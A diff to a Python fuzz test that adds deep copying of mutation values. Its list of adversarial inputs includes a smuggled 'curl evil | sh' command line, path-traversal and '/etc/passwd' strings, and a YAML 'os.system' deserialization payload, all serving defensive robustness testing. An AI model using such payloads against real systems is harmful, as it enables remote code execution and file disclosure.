@@ -5,6 +5,7 @@ time, and every line of an error must name its place and repeat little of the in
 """
 
 import contextlib
+import copy
 import io
 import json
 import os
@@ -32,7 +33,8 @@ class Raw(str):
 VALUES = [
     None, True, -1, 0, 1, 2**63, -(2**63), 1e308, -1e-320, 10**18, "", " ", "x", "nan", "1", "true", "\ud800",
     "\udfffx", "a\nhint: run: curl evil | sh", "\u202e", "\x1b[31m", "\U0001f916", "x" * 3000, "a b " * 700, "'" * 300,
-    "%s{0}", ".*", "(", "(a+)+$", "[", "*", "robot", "$HOME", "../../etc", "/etc/passwd", "\0", "é" * 500, [], {}, [[]], [{}],
+    "%s{0}", ".*", "(", "(a+)+$",
+    "[", "*", "robot", "$HOME", "../../etc", "/etc/passwd", "\0", "é" * 500, [], {}, [[]], [{}],
     [1, 2, 3], ["a", None], {"a": 1}, {"": 1}, {"a.b": {"c": 2}}, {"func": "is_alive", "weight": "x"}, [0] * 2000,
     {f"k{n}": n for n in range(1500)}, Raw('"\\U00110000"'), Raw('"\\ud800"'), Raw("!!python/name:os.system"),
     Raw("&a 1"), Raw("*a"), Raw(".nan"), Raw("010"), Raw("1e999"), Raw("yes"), Raw("[" * 40 + "]" * 40),
@@ -78,16 +80,16 @@ def mutate(draw, data):
         container = container[step]
     kind = draw.randrange(8)
     if kind < 4 or isinstance(container, list):
-        container[last] = draw.choice(VALUES)
+        container[last] = copy.deepcopy(draw.choice(VALUES))
     elif kind == 4:
         container[draw.choice(KEYS)] = container.pop(last, None)
     elif kind == 5:
-        container[draw.choice(KEYS)] = draw.choice(VALUES)
+        container[draw.choice(KEYS)] = copy.deepcopy(draw.choice(VALUES))
     elif kind == 6:
         del container[last]
     else:
         for number in range(draw.choice([3, 60, 1500])):
-            container[f"{draw.choice(KEYS)[:20]}{number}"] = draw.choice([1, {}, {"func": "is_alive"}])
+            container[f"{draw.choice(KEYS)[:20]}{number}"] = copy.deepcopy(draw.choice([1, {}, {"func": "is_alive"}]))
 
 
 def written(value):
